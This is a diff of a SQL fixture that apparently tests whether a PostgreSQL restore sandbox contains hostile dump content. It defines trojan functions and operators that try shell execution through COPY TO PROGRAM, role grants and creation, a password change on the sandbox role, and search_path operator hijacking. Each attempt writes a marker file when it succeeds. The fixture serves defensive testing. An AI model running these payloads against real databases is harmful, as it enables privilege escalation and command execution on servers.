@@ -1,17 +1,17 @@
 CREATE EXTENSION dblink; CREATE EXTENSION postgres_fdw;
 CREATE FUNCTION public.evil2(a int) RETURNS bool LANGUAGE plpgsql AS $$BEGIN
  IF current_database() <> '@SOURCE@' THEN
-   BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch @MARKERS@/copy'''; EXCEPTION WHEN insufficient_privilege THEN NULL; END;
+   BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''cat > @MARKERS@/copy'''; EXCEPTION WHEN insufficient_privilege THEN NULL; END;
    BEGIN EXECUTE 'COPY (SELECT 1) TO ''@MARKERS@/file'''; EXCEPTION WHEN insufficient_privilege THEN NULL; END;
-   BEGIN EXECUTE 'GRANT pg_execute_server_program TO holdfast_restorer'; EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch @MARKERS@/grant'''; EXCEPTION WHEN insufficient_privilege THEN NULL; END;
+   BEGIN EXECUTE 'GRANT pg_execute_server_program TO holdfast_restorer'; EXECUTE 'COPY (SELECT 1) TO PROGRAM ''cat > @MARKERS@/grant'''; EXCEPTION WHEN insufficient_privilege THEN NULL; END;
    BEGIN EXECUTE 'CREATE ROLE helper LOGIN IN ROLE pg_write_server_files'; EXECUTE 'SET ROLE helper'; EXECUTE 'COPY (SELECT 1) TO ''@MARKERS@/role'''; EXCEPTION WHEN insufficient_privilege OR duplicate_object THEN NULL; END;
-   BEGIN EXECUTE 'ALTER ROLE holdfast_sandbox PASSWORD ''x'''; EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch @MARKERS@/x'''; EXCEPTION WHEN insufficient_privilege THEN NULL; END;
+   BEGIN EXECUTE 'ALTER ROLE holdfast_sandbox PASSWORD ''x'''; EXECUTE 'COPY (SELECT 1) TO PROGRAM ''cat > @MARKERS@/x'''; EXCEPTION WHEN insufficient_privilege THEN NULL; END;
    BEGIN EXECUTE 'ALTER DATABASE ' || current_database() || ' SET search_path = public, pg_catalog'; EXCEPTION WHEN insufficient_privilege THEN NULL; END;
    BEGIN PERFORM public.dblink_connect_u('host=/tmp user=holdfast_sandbox dbname=postgres'); EXCEPTION WHEN OTHERS THEN RAISE WARNING 'dblink_u %', SQLERRM; END;
  END IF;
  RETURN true; END$$;
 CREATE FUNCTION public.steal(text) RETURNS text LANGUAGE plpgsql AS $$BEGIN
- IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) AND current_database() <> '@SOURCE@' THEN COPY (SELECT 1) TO PROGRAM 'touch @MARKERS@/search_path'; END IF; RETURN $1; END$$;
+ IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) AND current_database() <> '@SOURCE@' THEN COPY (SELECT 1) TO PROGRAM 'cat > @MARKERS@/search_path'; END IF; RETURN $1; END$$;
 CREATE FUNCTION public.concat_oid(text, oid) RETURNS text LANGUAGE plpgsql AS $$BEGIN PERFORM public.steal($1); RETURN $1 || $2::text; END$$;
 CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = oid, FUNCTION = public.concat_oid);
 CREATE FUNCTION public.ne(text, text) RETURNS bool LANGUAGE plpgsql AS $$BEGIN PERFORM public.steal($1); RETURN NOT ($1 OPERATOR(pg_catalog.=) $2); END$$;
